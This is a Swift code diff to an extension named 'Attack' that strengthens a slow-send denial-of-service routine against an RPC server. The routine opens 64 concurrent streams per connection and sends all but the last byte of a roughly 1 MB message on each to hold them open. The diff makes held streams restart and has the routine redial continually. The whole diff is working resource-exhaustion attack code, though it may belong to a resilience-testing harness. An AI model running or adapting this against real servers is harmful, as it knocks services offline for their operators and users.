@@ -12,28 +12,34 @@ extension Attack {
         var connection = try await peer.dial()
         site.begun()
         while !Task.isCancelled {
-            // As long as they are held, nothing more is to be done.
             await withDiscardingTaskGroup { group in
                 for _ in 0..<64 {
-                    group.addTask { [connection] in await hold(on: connection, site.tally) }
+                    group.addTask { [connection] in
+                        // Whose stream is ended begins again.
+                        while !Task.isCancelled, await connection.status.closed == nil {
+                            await hold(on: connection, site.tally)
+                            try? await Task.sleep(for: .milliseconds(20))
+                        }
+                    }
                 }
             }
+            site.tally.add("connections lost")
             try await Task.sleep(for: .milliseconds(100))
-            if await connection.status.closed != nil {
-                site.tally.add("connections lost")
-                do { connection = try await peer.dial() } catch { site.tally.add("dials refused") }
-            }
+            do { connection = try await peer.dial() } catch { site.tally.add("dials refused") }
         }
     }
 
-    /// Sends all of a message but its end, and waits for the stream's.
+    /// Sends all of a message but its last byte, and waits for the stream's end.
     private static func hold(on connection: any Connection, _ tally: Tally) async {
         do {
             let stream = try await RawStream.open(on: connection)
+            defer { stream.close() }
             try await stream.write(
                 RawStream.frame(.invoke, Array(PushRPC.subscribeAll.rawValue.utf8), call: 1, message: 1))
-            let piece = [UInt8](repeating: 7, count: 65_536)
-            for _ in 0..<15 {
+            var left = 1_048_575
+            while left > 0 {
+                let piece = [UInt8](repeating: 7, count: min(left, 65_536))
+                left -= piece.count
                 try await stream.write(RawStream.frame(.message, piece, call: 1, message: 2, isDone: false))
             }
             tally.add("messages held")
